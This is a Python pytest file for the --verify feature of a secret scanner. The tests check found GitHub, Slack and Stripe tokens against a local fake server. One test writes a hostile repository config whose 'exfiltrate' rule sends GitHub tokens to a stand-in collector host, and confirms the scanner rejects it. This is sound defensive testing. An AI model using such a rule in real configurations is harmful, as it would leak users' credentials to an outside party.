"""`--verify` end to end: the issue's demo against a local fake GitHub, Slack and Stripe, and the options."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from scanner.verify.http import env_name
from tests.conftest import git
from tests.verify_fakes import FakeServer, serve

LIVE = {
    "github-pat": "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",
    "slack-bot-token": "xoxb-2634872396-4218734862385-Tr8uQ3nW1zXk5JpL9mVb2sYd",
    "stripe-secret-key": "sk_live_51Hx3k2LqM8nV7bR4tY6wZ9pQ0sD",
}
DEAD = {
    "github-pat": "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",
    "slack-bot-token": "xoxb-1234098765-9876543210123-q0RmVt7KzL2cWnB8sXe4JyHd",
    "stripe-secret-key": "rk_test_4eC39HqLyjWDarjtT1zdp7dcAbC",
}


@pytest.fixture
def fake() -> Iterator[FakeServer]:
    for server in serve():
        server.live = set(LIVE.values())
        yield server


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "tree"
    root.mkdir()
    (root / "live.env").write_text("".join(f"{k.upper().replace('-', '_')}={v}\n" for k, v in LIVE.items()))
    (root / "dead.env").write_text("".join(f"{k.upper().replace('-', '_')}={v}\n" for k, v in DEAD.items()))
    return root


def _leakscan(fake: FakeServer, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    overrides = {env_name(p): fake.url for p in ("github", "slack", "stripe")}
    return subprocess.run([sys.executable, "-m", "scanner", *args], capture_output=True, text=True,
                          env={**os.environ, **overrides, **(env or {})})


def _rows(done: subprocess.CompletedProcess[str]) -> dict[str, dict]:  # type: ignore[type-arg]
    return {r["secret"]: r for r in json.loads(done.stdout)}


def test_demo_marks_fake_valid_tokens_valid_and_others_invalid(fake: FakeServer, tree: Path) -> None:
    done = _leakscan(fake, "scan", str(tree), "--verify", "--format", "json")
    assert done.returncode == 1, done.stderr
    rows = _rows(done)
    verdicts = {secret: row["verification"]["verdict"] for secret, row in rows.items()}
    assert verdicts == {**{s: "valid" for s in LIVE.values()}, **{s: "invalid" for s in DEAD.values()}}
    identities = {row["rule_id"]: row["verification"]["identity"] for s, row in rows.items() if s in LIVE.values()}
    assert identities == {"github-pat": "octocat", "slack-bot-token": "deploybot in Acme",
                          "stripe-secret-key": "acct_1Fake"}
    assert "verification: 3 valid, 3 invalid" in done.stderr
    for secret in (*LIVE.values(), *DEAD.values()):
        assert secret not in done.stderr
    # the calls each provider documents for checking a key
    assert {(s.method, s.path) for s in fake.seen} == {("GET", "/user"), ("POST", "/api/auth.test"),
                                                        ("GET", "/v1/account")}


def test_without_verify_nothing_is_sent(fake: FakeServer, tree: Path) -> None:
    done = _leakscan(fake, "scan", str(tree), "--format", "json")
    assert done.returncode == 1
    assert fake.seen == []
    assert all(row["verification"] is None for row in _rows(done).values())


def test_only_verified_reports_only_live_findings(fake: FakeServer, tree: Path) -> None:
    done = _leakscan(fake, "scan", str(tree), "--verify", "--only-verified", "--format", "json")
    assert done.returncode == 1
    assert set(_rows(done)) == set(LIVE.values())


@pytest.mark.parametrize("live,code", [(True, 1), (False, 0)], ids=["live-key-fails", "dead-keys-pass"])
def test_fail_on_valid_sets_the_exit_status_by_live_keys(live: bool, code: int, fake: FakeServer,
                                                         tree: Path) -> None:
    if not live:
        (tree / "live.env").unlink()
    done = _leakscan(fake, "scan", str(tree), "--verify", "--fail-on", "valid", "--format", "json")
    assert done.returncode == code, done.stderr
    assert len(_rows(done)) == (6 if live else 3)  # every finding is still reported


@pytest.mark.parametrize("args", [["--only-verified"], ["--fail-on", "valid"]], ids=["only-verified", "fail-on-valid"])
def test_options_that_need_verify_are_usage_errors_without_it(args: list[str], fake: FakeServer, tree: Path) -> None:
    done = _leakscan(fake, "scan", str(tree), *args)
    assert done.returncode == 2
    assert "needs --verify" in done.stderr and fake.seen == []


def test_filtered_findings_are_never_sent(fake: FakeServer, tmp_path: Path) -> None:
    # A GitHub token with a bad checksum has low confidence; --min-confidence drops it before verification.
    (tmp_path / "a.env").write_text("T=ghp_U8JZpDE0iGXlD6gNCFbaEPFjbD0kH814Un4J\n")
    done = _leakscan(fake, "scan", str(tmp_path), "--verify", "--min-confidence", "medium", "--format", "json")
    assert done.returncode == 0 and json.loads(done.stdout) == []
    assert fake.seen == []


def test_console_shows_verdict_and_identity(fake: FakeServer, tree: Path) -> None:
    (tree / "dead.env").unlink()
    done = _leakscan(fake, "scan", str(tree), "--verify", env={"NO_COLOR": "1", "COLUMNS": "200"})
    assert done.returncode == 1
    assert done.stdout.count("verified: valid") == 3
    assert "octocat" in done.stdout and "deploybot in Acme" in done.stdout


def test_unsafe_override_is_a_usage_error(fake: FakeServer, tree: Path) -> None:
    done = _leakscan(fake, "scan", str(tree), "--verify", env={env_name("github"): "http://203.0.113.9"})
    assert done.returncode == 2
    assert done.stderr.strip().splitlines()[-1].startswith("error: LEAKSCAN_VERIFY_BASE_URL_GITHUB")
    assert fake.seen == []


def test_dead_endpoint_does_not_abort_the_scan(tree: Path) -> None:
    env = {env_name(p): "http://127.0.0.1:9" for p in ("github", "slack", "stripe")}
    done = subprocess.run([sys.executable, "-m", "scanner", "scan", str(tree), "--verify", "--verify-timeout", "1",
                           "--format", "json"], capture_output=True, text=True, env={**os.environ, **env})
    assert done.returncode == 1, done.stderr
    assert {r["verification"]["verdict"] for r in json.loads(done.stdout)} == {"error"}


def test_repository_config_cannot_declare_a_verifier(fake: FakeServer, tree: Path) -> None:
    (tree / ".leakscan.yaml").write_text(
        "rules:\n"
        "  - id: exfiltrate\n"
        "    description: sends every GitHub token to a server the repository controls\n"
        "    regex: '\\b(ghp_[A-Za-z0-9]{36})\\b'\n"
        "    verify:\n"
        "      provider: github\n"
        f"      request: {{url: 'https://collector.example/steal?t={{{{secret}}}}'}}\n"
        "      valid: {status: 200}\n"
        "      invalid: {status: 401}\n")
    done = _leakscan(fake, "scan", str(tree), "--verify", "--format", "json")
    assert done.returncode == 2
    assert "verify is not allowed in a config file" in done.stderr
    assert fake.seen == []


def test_suppressed_findings_are_never_sent(fake: FakeServer, tmp_path: Path) -> None:
    (tmp_path / "a.env").write_text(f"A={LIVE['github-pat']}  # leakscan:allow\nB={LIVE['stripe-secret-key']}\n")
    done = _leakscan(fake, "scan", str(tmp_path), "--verify", "--format", "json")
    assert [r["rule_id"] for r in json.loads(done.stdout)] == ["stripe-secret-key"]
    assert [s.path for s in fake.seen] == ["/v1/account"]


def test_config_overrides_that_keep_detection_keep_verification(fake: FakeServer, tree: Path) -> None:
    (tree / ".leakscan.yaml").write_text("rule_overrides:\n  github-pat:\n    severity: low\n")
    rows = _rows(_leakscan(fake, "scan", str(tree), "--verify", "--format", "json"))
    assert rows[LIVE["github-pat"]]["severity"] == "low"
    assert rows[LIVE["github-pat"]]["verification"]["verdict"] == "valid"


def test_sarif_raises_live_keys_to_error_with_the_verdict_in_properties(fake: FakeServer, tree: Path) -> None:
    done = _leakscan(fake, "scan", str(tree), "--verify", "--format", "sarif")
    results = json.loads(done.stdout)["runs"][0]["results"]
    by_verdict = {r["properties"]["verification"]["verdict"]: r for r in results}
    assert by_verdict["valid"]["level"] == "error"
    assert by_verdict["valid"]["properties"]["verification"]["identity"] in {"octocat", "deploybot in Acme",
                                                                             "acct_1Fake"}
    assert {r["properties"]["verification"]["verdict"] for r in results} == {"valid", "invalid"}


@pytest.mark.parametrize("command", ["history", "staged"])
def test_git_commands_verify_too(command: str, fake: FakeServer, make_repo) -> None:  # type: ignore[no-untyped-def]
    repo = make_repo()
    (repo / "ci.env").write_text(f"GITHUB_TOKEN={LIVE['github-pat']}\nOLD={DEAD['github-pat']}\n")
    git(repo, "add", "ci.env")
    if command == "history":
        git(repo, "commit", "-qm", "add ci config")
    done = _leakscan(fake, command, str(repo), "--verify", "--format", "json")
    assert done.returncode == 1, done.stderr
    assert {r["secret"]: r["verification"]["verdict"] for r in json.loads(done.stdout)} == {
        LIVE["github-pat"]: "valid", DEAD["github-pat"]: "invalid"}
